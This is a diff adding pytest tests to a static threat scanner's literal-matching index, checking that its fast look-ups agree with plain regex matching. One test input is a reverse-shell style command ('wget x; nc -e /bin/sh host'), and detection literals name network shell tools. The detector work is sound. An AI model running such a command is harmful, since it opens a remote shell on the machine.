@@ -7,6 +7,7 @@ import re
 
 import pytest
 
+from scorers.static_judge import literal_scan
 from scorers.static_judge.literal_scan import (
     FoldedText,
     LineIndex,
@@ -189,3 +190,119 @@ def test_no_line_pattern_matches_an_empty_line() -> None:
         assert pattern.regex.search("") is None, pattern.name
     assert shell_js._SHELL_SOURCE.search("") is None
     assert shell_js._SHELL_SINK.search("") is None
+
+
+def _registered_literals() -> set[str]:
+    return {
+        literal
+        for regex in ALL_REGEXES
+        for alternative in scanner_for(regex).alternatives or []
+        for clause in alternative.clauses
+        for literal in clause
+    }
+
+
+def test_automaton_look_ups_equal_the_substring_test() -> None:
+    literals = _registered_literals()
+    assert literal_scan.ahocorasick is not None, "the automaton module is a dependency"
+    assert {lit for lit in literals if len(lit) >= 3} <= literal_scan.LITERALS.covered | (
+        literal_scan.LITERALS.pending
+    )
+    for text in TEXTS[::3]:
+        folded = FoldedText(text)
+        found = 0
+        for literal in sorted(literals):
+            assert folded.has(literal) == (literal in fold(text)), (literal, text[:60])
+            found += folded.has(literal)
+        covered, present = folded.found()
+        assert present == {lit for lit in covered if lit in fold(text)}
+
+
+def test_a_literal_registered_after_a_look_up_is_found_too() -> None:
+    index = literal_scan.LiteralIndex()
+    index.register(["curl", "wget"])
+    covered, found = index.found_in("wget x; nc -e /bin/sh host")
+    assert (sorted(covered), sorted(found)) == (["curl", "wget"], ["wget"])
+    index.register(["/bin/sh", "nc"])  # "nc" is too short: looked up on its own
+    covered, found = index.found_in("wget x; nc -e /bin/sh host")
+    assert sorted(found) == ["/bin/sh", "wget"] and "nc" not in covered
+
+
+def _fresh_scanners(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Scanners and texts built anew (the cached ones were derived the normal way)."""
+    scanner_for.cache_clear()
+    literal_scan.folded_text.cache_clear()
+    literal_scan.line_index.cache_clear()
+    monkeypatch.setattr(literal_scan, "LITERALS", literal_scan.LiteralIndex())
+
+
+@pytest.fixture
+def restore_scanners():
+    yield
+    scanner_for.cache_clear()
+    literal_scan.folded_text.cache_clear()
+    literal_scan.line_index.cache_clear()
+
+
+def _judge_answers() -> list[dict]:
+    from scorers.static_judge.judge import answer
+    from tests.support.wild_families import CASES
+
+    packages = [{"SKILL.md": text} for text in EXAMPLE_TEXTS[::4]]
+    packages += [case.files for case in CASES]
+    return [answer("threat", files) for files in packages]
+
+
+def _matches_everywhere() -> None:
+    for regex in ALL_REGEXES:
+        scanner = scanner_for(regex)
+        for text in TEXTS[::5]:
+            expected = [m.span() for m in regex.finditer(text)]
+            assert [m.span() for m in scanner.finditer(text)] == expected, text
+
+
+def test_without_the_automaton_module_the_matches_are_the_same(
+    monkeypatch: pytest.MonkeyPatch, restore_scanners: None
+) -> None:
+    expected = _judge_answers()
+    _fresh_scanners(monkeypatch)
+    monkeypatch.setattr(literal_scan, "ahocorasick", None)
+    _matches_everywhere()
+    assert not literal_scan.LITERALS.covered and not literal_scan.LITERALS.pending
+    assert _judge_answers() == expected
+
+
+@pytest.mark.parametrize("failure", ["derivation raises", "no private parser"])
+def test_a_failing_literal_derivation_leaves_the_regex_whole(
+    failure: str, monkeypatch: pytest.MonkeyPatch, restore_scanners: None
+) -> None:
+    """Should the re module's private parser change, every rule still finds its matches."""
+    expected = _judge_answers()
+    _fresh_scanners(monkeypatch)
+    if failure == "derivation raises":
+
+        def broken(regex: re.Pattern[str]) -> None:
+            raise AttributeError("module 're._parser' has no attribute 'parse'")
+
+        monkeypatch.setattr(literal_scan, "_derive_alternatives", broken)
+    else:
+        monkeypatch.setattr(literal_scan, "_sre_parse", None)
+    assert all(scanner_for(regex).alternatives is None for regex in ALL_REGEXES)
+    assert scanner_for(ALL_REGEXES[0]).candidate_lines(LineIndex("a\nb")) is None
+    _matches_everywhere()
+    assert _judge_answers() == expected
+
+
+def test_line_index_shares_the_look_ups_of_its_text_when_only_a_final_newline_differs() -> None:
+    for text in TEXTS[::4]:
+        for variant in (text + "\n", text.replace("\n", "\r\n") + "\r\n", text):
+            index = LineIndex(variant)
+            if variant.endswith("\n") and "\r" not in variant:
+                assert index.joined is literal_scan.folded_text(variant)
+            else:
+                assert index.joined.text == "\n".join(variant.splitlines())
+            for regex in ALL_REGEXES:
+                candidates = scanner_for(regex).candidate_lines(index)
+                if candidates is not None:
+                    matching = {n for n, line in enumerate(index.lines, 1) if regex.search(line)}
+                    assert matching <= set(candidates), (regex.pattern[:40], variant[:60])
